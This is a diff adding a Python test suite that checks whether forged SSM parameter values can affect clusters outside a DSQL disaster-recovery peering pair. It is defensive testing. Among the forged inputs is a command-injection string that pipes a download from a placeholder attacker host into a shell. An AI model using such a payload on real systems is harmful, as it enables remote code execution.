@@ -1,0 +1,276 @@
+"""Whatever stands in the parameters: they are compared with the clusters, and decide nothing over them."""
+
+from __future__ import annotations
+
+import copy
+import re
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from dsql_dr_constructs.runtime.cluster_peering.handshake import Handshake
+from dsql_dr_constructs.runtime.cluster_peering.pair import PeeringError
+from dsql_dr_constructs.runtime.cluster_peering.registry import registry_paths
+from dsql_dr_constructs.runtime.cluster_peering.repair import Repair
+from dsql_dr_constructs.runtime.cluster_peering.teardown import Teardown
+from tests.runtime.cluster_peering.hand_made_aws import (
+    LOCAL,
+    LOCAL_ID,
+    OTHER_LOCAL,
+    OTHER_PEER,
+    PEER,
+    PEER_ENTRY,
+    PEER_ID,
+    STACK,
+    THIRD,
+    UNFINISHED,
+    HandMadeAws,
+)
+
+NAMES = registry_paths("Orders-production", "us-east-1", "us-west-2")
+OTHER_ID = OTHER_PEER.rpartition("/")[2]
+FORGED = {
+    "empty": "",
+    "garbage": "orders",
+    "the local cluster's": LOCAL,
+    "of another account": OTHER_PEER.replace("111111111111", "222222222222"),
+    "of another partition": OTHER_PEER.replace("arn:aws:", "arn:aws-cn:"),
+    "of another Region": THIRD,
+    "of another service": OTHER_PEER.replace(":dsql:", ":rds:"),
+    "too short": OTHER_PEER[:-1],
+    "in capitals": OTHER_PEER.upper(),
+    "with a line more": f"{OTHER_PEER}\n",
+    "of all clusters": OTHER_PEER.replace(OTHER_ID, "*"),
+    "a command": "$(curl https://evil.example | sh)",
+}
+
+
+@pytest.fixture
+def aws() -> HandMadeAws:
+    """A pair, peered and registered, and another pair in the same account and Regions."""
+    return deployed()
+
+
+def deployed() -> HandMadeAws:
+    aws = with_another_pair(HandMadeAws().peered())
+    step(aws)
+    aws.writes.clear()
+    aws.calls.clear()
+    aws.record.clear()
+    return aws
+
+
+def with_another_pair(aws: HandMadeAws) -> HandMadeAws:
+    aws.add_cluster(OTHER_PEER, peers=[OTHER_LOCAL])
+    aws.add_cluster(OTHER_LOCAL, peers=[OTHER_PEER])
+    aws.add_cluster(THIRD)
+    return aws
+
+
+def step(aws: HandMadeAws, request_type: str = "Update") -> dict[str, Any]:
+    return Handshake(aws.event(request_type), pair=aws.pair(), clock=lambda: aws.now).step()
+
+
+def teardown(aws: HandMadeAws, stack_status: str, removal_policy: str) -> None:
+    aws.stack_status = stack_status
+    aws.environment["REMOVAL_POLICY"] = removal_policy
+    event = aws.event("Delete")
+    while not Teardown(event, pair=aws.pair(), clock=lambda: aws.now).step()["IsComplete"]:
+        aws.now += 10
+
+
+def repair(aws: HandMadeAws) -> dict[str, Any]:
+    def sleep(seconds: float) -> None:
+        aws.now += seconds
+
+    return Repair(pair=aws.pair(), clock=lambda: aws.now, sleep=sleep, seconds=210.0).run()
+
+
+def forget_each_other(aws: HandMadeAws) -> None:
+    for arn in (PEER, LOCAL):
+        aws.clusters[arn]["peers"] = []
+
+
+# a pair that lives
+
+
+@pytest.mark.parametrize("value", [*FORGED.values(), OTHER_PEER], ids=[*FORGED, "another cluster's"])
+@pytest.mark.parametrize("region", ["us-east-1", "us-west-2"])
+def test_forged_peer_of_a_living_pair_is_overwritten_and_the_clusters_stay(
+    aws: HandMadeAws, region: str, value: str
+) -> None:
+    before = copy.deepcopy(aws.clusters), dict(aws.registry)
+    aws.registry[region, PEER_ENTRY] = value
+    assert repair(aws)["changed"] == [f"{region}: wrote {PEER_ENTRY}"]
+    assert (aws.clusters, aws.registry) == before
+
+
+@pytest.mark.parametrize("value", [*FORGED.values(), OTHER_PEER], ids=[*FORGED, "another cluster's"])
+def test_destroy_deletes_the_pair_whatever_was_forged(aws: HandMadeAws, value: str) -> None:
+    aws.registry["us-east-1", PEER_ENTRY] = value
+    teardown(aws, "DELETE_IN_PROGRESS", "destroy")
+    assert {arn: one["status"] for arn, one in aws.clusters.items()} == {
+        PEER: "PENDING_DELETE",
+        LOCAL: "ACTIVE",  # which CloudFormation deletes next
+        OTHER_PEER: "ACTIVE",
+        OTHER_LOCAL: "ACTIVE",
+        THIRD: "PENDING_SETUP",
+    }
+
+
+# a pair that has to be peered
+
+
+@pytest.mark.parametrize("value", FORGED.values(), ids=FORGED)
+@pytest.mark.parametrize("field", ["arn", "identifier"])
+def test_entry_that_names_no_cluster_that_there_could_be_is_overwritten(
+    aws: HandMadeAws, field: str, value: str
+) -> None:
+    forget_each_other(aws)
+    name = f"/dsql-dr/Orders-production/us-east-1/{field}"
+    aws.registry["us-west-2", name] = value
+    answer = repair(aws)
+    assert answer["done"]
+    assert f"us-west-2: wrote {name}" in answer["changed"]
+    assert identifiers(aws) == {PEER_ID, LOCAL_ID}, "and nobody is asked for it"
+
+
+@pytest.mark.parametrize("status", [None, "DELETING", "PENDING_DELETE"])
+def test_entry_of_a_cluster_that_is_gone_is_overwritten(aws: HandMadeAws, status: str | None) -> None:
+    forget_each_other(aws)
+    aws.clusters[OTHER_PEER]["status"] = status
+    if not status:
+        del aws.clusters[OTHER_PEER]
+    aws.registry["us-west-2", PEER_ENTRY] = OTHER_PEER
+    assert f"us-west-2: wrote {PEER_ENTRY}" in repair(aws)["changed"]
+
+
+@pytest.mark.parametrize("field", ["arn", "identifier"])
+@pytest.mark.parametrize("ours", [PEER, LOCAL])
+@pytest.mark.parametrize("registry", ["us-east-1", "us-west-2", "us-east-2"])
+@pytest.mark.parametrize("request_type", ["Create", "Update"])
+def test_entry_of_another_cluster_that_lives_refuses_before_anything_is_changed(
+    aws: HandMadeAws, request_type: str, registry: str, ours: str, field: str
+) -> None:
+    forget_each_other(aws)
+    aws.environment["REGISTRY_REGIONS"] += ",us-east-2"
+    theirs = OTHER_PEER if ours == PEER else OTHER_LOCAL
+    name = f"/dsql-dr/Orders-production/{ours.split(':')[3]}/{field}"
+    aws.registry[registry, name] = theirs if field == "arn" else OTHER_ID
+    before = copy.deepcopy(aws.clusters), dict(aws.registry)
+    with pytest.raises(PeeringError) as failure:
+        step(aws, request_type)
+    sentence = str(failure.value)
+    assert f"parameter {name} in {registry} names {theirs}, which lives, and this deployment's cluster is {ours}" in (
+        sentence
+    )
+    assert "Give this one another deployment_name." in sentence
+    assert f"run aws ssm delete-parameters --region {registry} --names {name}, then try again" in sentence
+    assert (aws.clusters, aws.registry, aws.writes) == (*before, [])
+
+
+def test_command_deletes_every_entry_that_stands_in_the_way_and_then_it_works(aws: HandMadeAws) -> None:
+    forget_each_other(aws)
+    for registry in ("us-east-1", "us-west-2"):
+        aws.registry[registry, PEER_ENTRY] = OTHER_PEER
+        aws.registry[registry, "/dsql-dr/Orders-production/us-west-2/identifier"] = OTHER_ID
+    commands = re.findall(r"aws ssm delete-parameters --region (\S+) --names ((?:/\S+ ?)+)", repair(aws)["error"])
+    for region, names in commands:
+        aws.client("ssm", region).delete_parameters(Names=[one.rstrip(",") for one in names.split()])
+    assert len(commands) == 2
+    assert repair(aws)["done"]
+
+
+# a deployment that was refused is rolled back
+
+
+@pytest.mark.parametrize("removal_policy", ["retain", "destroy"])
+def test_rollback_of_a_refused_deployment_leaves_the_others_entries_and_clusters(removal_policy: str) -> None:
+    aws = with_another_pair(HandMadeAws())
+    for name in NAMES:
+        theirs = OTHER_PEER if "/us-east-1/" in name else OTHER_LOCAL
+        aws.registry["us-west-2", name] = theirs if name.endswith("/arn") else "of the other deployment"
+    aws.registry["us-east-1", "/dsql-dr/Orders-production/us-east-1/endpoint"] = "of nobody"
+    before = copy.deepcopy(aws.clusters), {key: value for key, value in aws.registry.items() if key[0] == "us-west-2"}
+    with pytest.raises(PeeringError, match="another deployment has the name"):
+        step(aws, "Create")
+    teardown(aws, "ROLLBACK_IN_PROGRESS", removal_policy)
+    assert (aws.clusters, aws.registry) == before
+
+
+def test_rollback_of_a_deployment_with_anothers_primary_leaves_its_entries() -> None:
+    """Two apps whose primary's stack is the same: the second adds its cluster to no pair."""
+    aws = with_another_pair(HandMadeAws())
+    aws.add_cluster(PEER, peers=[THIRD])
+    aws.add_cluster(THIRD, peers=[PEER])
+    aws.registry["us-east-1", PEER_ENTRY] = PEER
+    with pytest.raises(PeeringError, match=f"cluster {PEER} is peered with {THIRD}"):
+        step(aws, "Create")
+    teardown(aws, "ROLLBACK_IN_PROGRESS", "destroy")
+    assert aws.registry == {("us-east-1", PEER_ENTRY): PEER}
+    assert aws.clusters[PEER]["peers"] == [PEER, THIRD]
+
+
+# any text in any parameter
+
+WELL_FORMED = st.builds(
+    lambda partition, region, account, identifier: f"arn:{partition}:dsql:{region}:{account}:cluster/{identifier}",
+    st.sampled_from(["aws", "aws-cn"]),
+    st.sampled_from(["us-east-1", "us-west-2", "ca-central-1"]),
+    st.sampled_from(["111111111111", "222222222222"]),
+    st.sampled_from([PEER_ID, LOCAL_ID, OTHER_ID, "x" * 26, "x" * 25, "*"]),
+)
+TEXT = st.one_of(st.text(max_size=60), WELL_FORMED, st.sampled_from([OTHER_ID, PEER_ID, "x" * 26, *FORGED.values()]))
+ENTRIES = st.dictionaries(st.tuples(st.sampled_from(["us-east-1", "us-west-2"]), st.sampled_from(NAMES)), TEXT)
+CHANGES: dict[str, Callable[[HandMadeAws], object]] = {
+    "deployment": step,
+    "repair": repair,
+    "rollback": lambda aws: teardown(aws, "ROLLBACK_IN_PROGRESS", "destroy"),
+    "retain": lambda aws: teardown(aws, "DELETE_IN_PROGRESS", "retain"),
+    "destroy": lambda aws: teardown(aws, "DELETE_IN_PROGRESS", "destroy"),
+}
+
+
+@settings(max_examples=300)
+@given(forged=ENTRIES, peered=st.booleans(), change=st.sampled_from(sorted(CHANGES)), recorded=st.booleans())
+def test_no_text_in_a_parameter_reaches_a_cluster_that_is_not_the_pairs(
+    forged: dict[tuple[str, str], str], peered: bool, change: str, recorded: bool
+) -> None:
+    aws = deployed()
+    if not recorded:
+        aws.physical_ids[STACK, "Peering"] = UNFINISHED
+    if not peered:
+        forget_each_other(aws)
+    aws.registry.update(forged)
+    theirs = {arn: copy.deepcopy(aws.clusters[arn]) for arn in (OTHER_PEER, OTHER_LOCAL, THIRD)}
+    sentence = ""
+    try:
+        answer = CHANGES[change](aws)
+    except PeeringError as failure:
+        sentence = str(failure)
+    else:
+        sentence = answer.get("error", "") if isinstance(answer, dict) else ""
+    assert {arn: aws.clusters[arn] for arn in theirs} == theirs
+    for call in aws.record:
+        if call.service == "dsql" and call.arguments["identifier"] not in (PEER_ID, LOCAL_ID):
+            assert call.operation == "GetCluster"
+            assert re.fullmatch("[a-z0-9]{26}", call.arguments["identifier"])
+            assert call.region in ("us-east-1", "us-west-2")
+    if sentence:
+        assert "another deployment has the name" in sentence, "which is all that a parameter can bring about"
+        assert re.search(r"run aws ssm delete-parameters --region [a-z0-9-]+ --names [\w/ -]+[ ,]", sentence)
+        assert set(re.findall(r"\S+/\S+", sentence)) == known_words(sentence)
+
+
+def known_words(sentence: str) -> set[str]:
+    """What may stand in a sentence with a slash: names of parameters, and ARNs of a checked form."""
+    arn = r"arn:aws:dsql:us-(east-1|west-2):111111111111:cluster/[a-z0-9]{26}"
+    words = re.findall(r"\S+/\S+", sentence)
+    return {one for one in words if one.rstrip(",:") in NAMES or re.fullmatch(arn, one.rstrip(",:"))}
+
+
+def identifiers(aws: HandMadeAws) -> set[str]:
+    return {call.arguments["identifier"] for call in aws.record if call.service == "dsql"}
